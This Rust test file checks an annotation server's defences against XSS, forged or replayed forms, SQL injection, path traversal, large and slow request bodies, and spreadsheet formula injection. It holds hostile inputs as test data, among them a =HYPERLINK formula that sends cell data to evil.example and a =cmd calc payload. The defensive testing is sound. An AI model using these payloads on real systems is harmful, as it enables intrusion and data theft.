//! Attacks: each gets a clear refusal and changes nothing.

use axum::body::Body;
use axum::http::Request;
use gainsay_server::annotate::store::{Settings, Store};
use gainsay_server::annotate::task::Task;
use gainsay_server::annotate::web::{Access, App, Listening, serve};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tower::ServiceExt;

use crate::support::{databases, filled, pairs};
use crate::support_web::{Browser, SECRET, admin, annotator, router, value};

const SCRIPT: &str = "<script>alert(1)</script><img src=x onerror=alert(1)>";

#[tokio::test]
async fn script_in_every_text_is_shown_as_text() {
    for database in databases().await {
        let store = filled(&database, 0, 2).await;
        let mut tasks = pairs(1);
        if let Task::Compare(pair) = &mut tasks[0] {
            pair.id = format!("{SCRIPT}\"'");
            pair.prompt = gainsay_core::record::Prompt::Text(format!("{SCRIPT}\u{0}"));
            pair.first.text = format!("```html\n{SCRIPT}\n```\n[x](javascript:alert(1))");
            pair.second.text = SCRIPT.into();
        }
        store.add_items(&tasks).await.unwrap();
        store
            .set(
                &Settings { title: SCRIPT.into(), guidelines: SCRIPT.into(), ..store.settings().await.unwrap() },
                "test",
            )
            .await
            .unwrap();
        let app = router(&store, "");
        let mut pages = Vec::new();
        for (name, answer) in [(SCRIPT, "tie"), ("bo", "both_bad")] {
            let who = annotator(&app, &store, name).await;
            pages.push(who.get("/work").await);
            pages.push(who.get("/guidelines").await);
            assert_eq!(who.answer(&[("answer", answer), ("comment", SCRIPT)]).await.status, 303);
        }
        let boss = admin(&app, &store).await;
        for path in ["/admin", "/admin/people", "/admin/settings", "/admin/audit", "/admin/disagreements"] {
            pages.push(boss.get(path).await);
        }
        for page in pages {
            assert_eq!(page.status, 200);
            assert!(!page.text.contains("<script>") && !page.text.contains("<img"), "{}", page.text);
            assert!(!page.text.contains("href=\"javascript"));
            assert_eq!(page.text.matches("<script").count(), 1, "the app's own script alone");
            assert!(page.policy.contains("default-src 'none'") && !page.policy.contains("unsafe"), "{}", page.policy);
        }
    }
}

#[tokio::test]
async fn forged_foreign_and_replayed_forms() {
    for database in databases().await {
        let store = filled(&database, 3, 1).await;
        let app = router(&store, "");
        let (ann, bo) = (annotator(&app, &store, "ann").await, annotator(&app, &store, "bo").await);
        let page = ann.get("/work").await.text;
        let [csrf, item, ticket] = ["csrf", "item", "ticket"].map(|name| value(&page, name));
        let of_bo = value(&bo.get("/work").await.text, "csrf");
        let fields = |csrf: &str| {
            vec![
                ("csrf".to_owned(), csrf.to_owned()),
                ("item".into(), item.clone()),
                ("ticket".into(), ticket.clone()),
                ("answer".into(), "tie".into()),
            ]
        };
        let post = |who: Browser, fields: Vec<(String, String)>, headers: Vec<(&'static str, &'static str)>| async move {
            let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            who.post_with("/work", &fields, &headers).await.status.as_u16()
        };
        let before = contents(&store).await;
        assert_eq!(post(ann.clone(), fields(""), vec![]).await, 403, "no token");
        assert_eq!(post(ann.clone(), fields(&of_bo), vec![]).await, 403, "another session's token");
        assert_eq!(post(ann.clone(), fields(&csrf), vec![("origin", "https://evil.example")]).await, 403);
        assert_eq!(post(ann.clone(), fields(&csrf), vec![("origin", "null"), ("host", "h")]).await, 403);
        assert_eq!(post(ann.clone(), fields(&csrf), vec![("sec-fetch-site", "cross-site")]).await, 403);
        assert_eq!(post(bo.clone(), fields(&of_bo), vec![]).await, 409, "another annotator's item");
        let nobody = Browser { app: app.clone(), session: "0".repeat(64) };
        assert_eq!(post(nobody, fields(&csrf), vec![]).await, 401);
        assert!(store.votes().await.unwrap().is_empty());
        for (field, bad) in [
            ("item", "x"),
            ("item", "999"),
            ("ticket", ""),
            ("answer", "best"),
            ("answer", "skip"),
            ("rating_left", "6"),
            ("safe_left", "maybe"),
            ("comment", "a\u{0}b"),
        ] {
            let mut form: Vec<(String, String)> = fields(&csrf).into_iter().filter(|(k, _)| k != field).collect();
            form.push((field.into(), bad.into()));
            let status = post(ann.clone(), form, vec![]).await;
            assert!([400, 409].contains(&status), "{field}={bad}: {status}");
        }
        assert_eq!(contents(&store).await, before);
        for _ in 0..3 {
            assert_eq!(post(ann.clone(), fields(&csrf), vec![]).await, 303);
        }
        let once = contents(&store).await;
        assert_eq!(store.votes().await.unwrap().len(), 1, "a replayed form counts once");
        let other: Vec<_> = fields(&csrf).into_iter().filter(|(k, _)| k != "answer").collect();
        let other = [other, vec![("answer".into(), "left2".into())]].concat();
        assert_eq!(post(ann.clone(), other, vec![]).await, 409, "replayed with another answer");
        assert_eq!(contents(&store).await, once);
        for path in ["/admin", "/admin/settings", "/admin/export/preferences.jsonl"] {
            assert_eq!(ann.get(path).await.status, 403, "{path}");
        }
        assert_eq!(ann.post("/admin/settings", &[("csrf", &csrf), ("overlap", "9")]).await.status, 403);
        assert_eq!(store.settings().await.unwrap().overlap, 1);
    }
}

#[tokio::test]
async fn guessing_is_slowed_down_and_finds_nothing() {
    let database = &databases().await[0];
    let store = filled(database, 1, 1).await;
    let app = router(&store, "");
    let nobody = Browser { app, session: String::new() };
    let mut seen = Vec::new();
    for i in 0..15 {
        let path = format!("/invite/{i:064}");
        seen.push(if i % 2 == 0 {
            nobody.post(&path, &[]).await.status.as_u16()
        } else {
            nobody.get(&path).await.status.as_u16()
        });
    }
    assert_eq!(seen[..10], [404; 10]);
    assert_eq!(seen[10..], [429; 5]);
    assert_eq!(nobody.post("/admin/sign-in", &[("secret", SECRET)]).await.status, 429, "one budget for all secrets");
    assert!(App::new(store, &Access { admin_secret: "short".into(), public_url: String::new() }, None).is_err());
}

/// Everything that a refused request must leave as it was.
async fn contents(store: &Store) -> String {
    let (items, votes, people) = (store.items().await, store.votes().await, store.people().await);
    let (settings, decided, trail) = (store.settings().await, store.resolutions().await, store.events(10_000).await);
    format!(
        "{:?}",
        (items.unwrap(), votes.unwrap(), people.unwrap(), settings.unwrap(), decided.unwrap(), trail.unwrap())
    )
}

const SQL: &str = "'; DROP TABLE items; DELETE FROM meta; -- \" OR 1=1";

/// Fields that hold free text keep it, letter by letter.
#[tokio::test]
async fn sql_in_free_text_is_text() {
    for database in databases().await {
        let store = filled(&database, 2, 2).await;
        let mut task = pairs(3).remove(2);
        if let Task::Compare(pair) = &mut task {
            (pair.id, pair.first.text) = (SQL.into(), SQL.into());
        }
        store.add_items(&[task]).await.unwrap();
        let app = router(&store, "");
        let (ann, bo) = (annotator(&app, &store, SQL).await, annotator(&app, &store, "bo").await);
        let page = ann.get("/work").await.text;
        let hidden = ["csrf", "item", "ticket"].map(|name| (name, value(&page, name)));
        let mut draft: Vec<(&str, &str)> = hidden.iter().map(|(k, v)| (*k, v.as_str())).collect();
        draft.extend([("comment", SQL), ("label", SQL), (SQL, SQL)]);
        assert_eq!(ann.post("/draft", &draft).await.status, 204);
        assert_eq!(ann.answer(&[("answer", "skip"), ("reason", SQL), ("comment", SQL)]).await.status, 303);
        assert_eq!(ann.answer(&[("answer", "tie"), ("comment", SQL)]).await.status, 303);
        for _ in 0..2 {
            assert_eq!(bo.answer(&[("answer", "left1"), (SQL, SQL)]).await.status, 303);
        }
        let boss = admin(&app, &store).await;
        let csrf = value(&boss.get("/admin/people").await.text, "csrf");
        assert_eq!(boss.post("/admin/people", &[("csrf", &csrf), ("name", SQL)]).await.status, 200);
        let settings =
            [("title", SQL), ("guidelines", SQL), ("overlap", "2"), ("gold_every", "0"), ("lease_seconds", "60")];
        let mut fields = vec![("csrf", csrf.as_str()), ("cost_per_hour", "1")];
        fields.extend(settings);
        assert_eq!(boss.post("/admin/settings", &fields).await.status, 303);
        let open = boss.get("/admin/disagreements").await.text;
        let item = value(&open, "item");
        let decision = [("csrf", csrf.as_str()), ("item", &item), ("why", SQL), ("decision", "tie")];
        assert_eq!(boss.post("/admin/disagreements", &decision).await.status, 303);
        assert_eq!(store.items().await.unwrap().len(), 3);
        assert!(store.votes().await.unwrap().iter().filter(|v| v.annotator == SQL).all(|v| v.given.comment == SQL));
        assert_eq!(store.settings().await.unwrap().title, SQL);
        assert_eq!(store.resolutions().await.unwrap()[0].reason, SQL);
    }
}

/// Fields that hold anything else refuse it and change nothing.
#[tokio::test]
async fn sql_elsewhere_is_refused_and_changes_nothing() {
    for database in databases().await {
        let store = filled(&database, 2, 2).await;
        let app = router(&store, "");
        let ann = annotator(&app, &store, "ann").await;
        let boss = admin(&app, &store).await;
        let page = ann.get("/work").await.text;
        let csrf = value(&boss.get("/admin/people").await.text, "csrf");
        let before = contents(&store).await;
        let own = [("csrf", value(&page, "csrf")), ("item", value(&page, "item")), ("ticket", value(&page, "ticket"))];
        for path in ["/work", "/draft"] {
            for field in ["csrf", "item", "ticket", "answer", "safe_left", "rating_right"] {
                if path == "/draft" && !["csrf", "item", "ticket"].contains(&field) {
                    continue;
                }
                let mut form: Vec<(&str, &str)> = own.iter().map(|(k, v)| (*k, v.as_str())).collect();
                form.push(("answer", "tie"));
                form.retain(|(name, _)| *name != field);
                form.push((field, SQL));
                let status = ann.post(path, &form).await.status.as_u16();
                assert!([400, 403, 409].contains(&status), "{path} {field}: {status}");
            }
        }
        assert_eq!(ann.post("/undo", &[("csrf", SQL)]).await.status, 403);
        let admins: [(&str, Vec<(&str, &str)>); 5] = [
            ("/admin/access", vec![("annotator", SQL), ("active", "no")]),
            ("/admin/settings", vec![("title", "t"), ("overlap", SQL), ("cost_per_hour", "0")]),
            ("/admin/settings", vec![("title", "t"), ("overlap", "1"), ("cost_per_hour", SQL)]),
            ("/admin/disagreements", vec![("item", SQL), ("decision", "tie")]),
            ("/admin/disagreements", vec![("item", "1"), ("decision", SQL)]),
        ];
        for (path, mut fields) in admins {
            fields.push(("csrf", &csrf));
            assert_eq!(boss.post(path, &fields).await.status, 400, "{path} {fields:?}");
        }
        let odd = Browser { app: app.clone(), session: SQL.into() };
        assert_eq!(odd.get("/work").await.location, "/", "a session that is none");
        let path = format!("/invite/{}", crate::support_web::encode(SQL));
        assert_eq!(odd.get(&path).await.status, 404);
        assert_eq!(odd.post(&path, &[]).await.status, 404);
        assert_eq!(odd.post("/admin/sign-in", &[("secret", SQL)]).await.status, 403);
        assert!(store.session(SQL, SQL).await.unwrap().is_none() && store.invited(SQL).await.unwrap().is_none());
        assert_eq!(contents(&store).await, before);
    }
}

/// What a spreadsheet would run, what a browser would run, and names of files that lead elsewhere.
#[tokio::test]
async fn exports_run_nowhere_and_their_names_lead_nowhere() {
    const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1)";
    for database in databases().await {
        let store = filled(&database, 0, 1).await;
        let mut tasks = pairs(1);
        if let Task::Compare(pair) = &mut tasks[0] {
            pair.id = "../../etc/passwd\r\nSet-Cookie: a=b".into();
            pair.prompt = gainsay_core::record::Prompt::Text(FORMULA.into());
            (pair.first.text, pair.second.text) = ("+1".into(), format!("@x\n{SCRIPT}"));
        }
        store.add_items(&tasks).await.unwrap();
        let app = router(&store, "");
        let ann = annotator(&app, &store, "-ann|x").await;
        assert_eq!(ann.answer(&[("answer", "tie"), ("comment", "=cmd|' /C calc'!A0")]).await.status, 303);
        let boss = admin(&app, &store).await;
        let csv = boss.get("/admin/export/votes.csv").await;
        let risky = ["=HYPER", "+1", "@x", "-ann", "=cmd"];
        for text in risky {
            assert!(csv.text.contains(&format!("'{text}")), "{text} is not disarmed in {}", csv.text);
            assert!(
                !csv.text.contains(&format!(",{text}")) && !csv.text.contains(&format!("\"{text}")),
                "{}",
                csv.text
            );
        }
        for (name, kind) in [
            ("votes.csv", "text/csv; charset=utf-8"),
            ("preferences.jsonl", "application/jsonl"),
            ("label-studio.json", "application/json"),
        ] {
            let file = boss.get(&format!("/admin/export/{name}")).await;
            assert_eq!((file.kind.as_str(), file.disposition), (kind, format!("attachment; filename=\"{name}\"")));
            assert!(file.cookie.is_empty() && file.policy.contains("default-src 'none'"));
        }
        for name in
            ["../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e", "votes.csv%00", "votes.csv%0d%0aX:%20y", SCRIPT]
        {
            let path = format!(
                "/admin/export/{}",
                if name.contains('%') { name.into() } else { crate::support_web::encode(name) }
            );
            let refused = boss.get(&path).await;
            assert_eq!(refused.status, 404, "{name}");
            assert!(!refused.text.contains("evil") && !refused.text.contains("alert"), "{}", refused.text);
        }
    }
}

#[tokio::test]
async fn large_bodies_and_other_types() {
    let database = &databases().await[0];
    let store = filled(database, 1, 1).await;
    let app = router(&store, "");
    let ann = annotator(&app, &store, "ann").await;
    let large = "x".repeat(100_000);
    assert_eq!(ann.answer(&[("answer", "tie"), ("comment", &large)]).await.status, 413);
    assert_eq!(ann.answer(&[("answer", "tie"), ("comment", &large[..5000])]).await.status, 400);
    let json = Request::post("/work")
        .header("cookie", format!("gainsay_session={}", ann.session))
        .header("content-type", "application/json");
    let refused = app.clone().oneshot(json.body(Body::from("{}")).unwrap()).await.unwrap();
    assert_eq!(refused.status(), 415);
    let put = Request::put("/work").body(Body::empty()).unwrap();
    assert_eq!(app.oneshot(put).await.unwrap().status(), 405);
    assert!(store.votes().await.unwrap().is_empty());
}

#[tokio::test]
async fn a_slow_body_is_ended_and_holds_up_nobody() {
    let database = &databases().await[0];
    let store = filled(database, 1, 1).await;
    let access = Access { admin_secret: SECRET.into(), public_url: String::new() };
    let listening = Listening::bind("127.0.0.1", 0).await.unwrap();
    let address = listening.address;
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let server =
        tokio::spawn(serve(listening, App::new(store, &access, None).unwrap(), async { stopped.await.unwrap() }));
    let mut slow = tokio::net::TcpStream::connect(address).await.unwrap();
    let head = "POST /admin/sign-in HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\nsec";
    slow.write_all(head.as_bytes()).await.unwrap();
    let mut other = tokio::net::TcpStream::connect(address).await.unwrap();
    other.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").await.unwrap();
    let mut text = String::new();
    other.read_to_string(&mut text).await.unwrap();
    assert!(text.starts_with("HTTP/1.1 200") && text.ends_with("ok\n"), "{text}");
    let mut answer = vec![0; 4096];
    let n = slow.read(&mut answer).await.unwrap();
    assert!(
        String::from_utf8_lossy(&answer[..n]).starts_with("HTTP/1.1 408"),
        "{}",
        String::from_utf8_lossy(&answer[..n])
    );
    stop.send(()).unwrap();
    server.await.unwrap().unwrap();
}
